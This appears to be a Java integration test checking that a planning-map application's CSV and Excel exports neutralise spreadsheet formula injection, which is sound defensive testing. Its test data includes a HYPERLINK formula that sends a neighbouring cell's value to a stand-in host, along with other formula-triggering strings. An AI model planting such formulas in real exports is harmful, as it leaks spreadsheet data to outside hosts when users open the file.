package vn.thanhhoa.planmap.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import vn.thanhhoa.planmap.auth.Role;
import vn.thanhhoa.planmap.support.Browserless;
import vn.thanhhoa.planmap.support.Gdal;
import vn.thanhhoa.planmap.support.ServerPerClass;

/**
 * A place or task whose text a spreadsheet would run as a formula is exported inert: the CSV cell starts
 * with an apostrophe (read back by GDAL's CSV reader), the workbook cell keeps its text with Excel's quote
 * prefix.
 */
class FormulaCellsIT extends ServerPerClass {
  private static final String HYPERLINK = "=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"x\")";

  @BeforeAll
  static void hostileNames() {
    Browserless.account(server.database, "formula.editor", Role.EDITOR, List.of());
    Browserless editor = new Browserless(server.url("")).signedIn("formula.editor");
    String path = "/edit/features/trung-tam-dong-bac";
    String etag = editor.get(path).headers().firstValue("ETag").orElseThrow();
    HttpResponse<String> r = editor.write("PATCH", path, "{\"name\":" + server.mapper.valueToTree(HYPERLINK)
        + ",\"name_en\":\"@SUM(1+1)\",\"source_text\":\"-2+3\"}", "If-Match", etag);
    assertEquals(200, r.statusCode(), r.body());
    String task = "/edit/tasks/VI.3";
    String taskTag = editor.get(task).headers().firstValue("ETag").orElseThrow();
    HttpResponse<String> t = editor.write("PATCH", task, "{\"product\":\"=1+1\"}", "If-Match", taskTag);
    assertEquals(200, t.statusCode(), t.body());
  }

  @Test
  void theLayerCsvNeutralisesFormulaCells() throws Exception {
    HttpResponse<byte[]> r = server.getBytes("/export?format=csv&layers=centres");
    assertEquals(200, r.statusCode());
    Path csv = Files.createTempFile("formula", ".csv");
    try {
      Files.write(csv, r.body());
      String all = Gdal.ogrinfo("-ro", "-al", "-oo", "GEOM_POSSIBLE_NAMES=wkt_*", "-oo", "KEEP_GEOM_COLUMNS=NO",
          csv.toString());
      assertTrue(all.contains("name (String) = '" + HYPERLINK), all);
      assertTrue(all.contains("name_en (String) = '@SUM(1+1)"), all);
      assertTrue(all.contains("source_text (String) = '-2+3"), all);
    } finally {
      Files.delete(csv);
    }
  }

  @Test
  void theWorkbookKeepsTheTextButMarksItAsText() throws Exception {
    HttpResponse<byte[]> r = server.getBytes("/export?format=xlsx");
    assertEquals(200, r.statusCode());
    try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(r.body()))) {
      Cell product = null;
      Cell content = null;
      for (Row row : wb.getSheetAt(0)) {
        if (row.getCell(0) != null && row.getCell(0).getStringCellValue().equals("VI.3")) {
          product = row.getCell(4);
          content = row.getCell(1);
        }
      }
      assertTrue(product != null, "row VI.3");
      assertEquals(CellType.STRING, product.getCellType());
      assertEquals("=1+1", product.getStringCellValue());
      assertTrue(product.getCellStyle().getQuotePrefixed(), "quote-prefixed: Excel never runs it");
      assertTrue(!content.getCellStyle().getQuotePrefixed(), "ordinary text is left as it is");
    }
  }
}
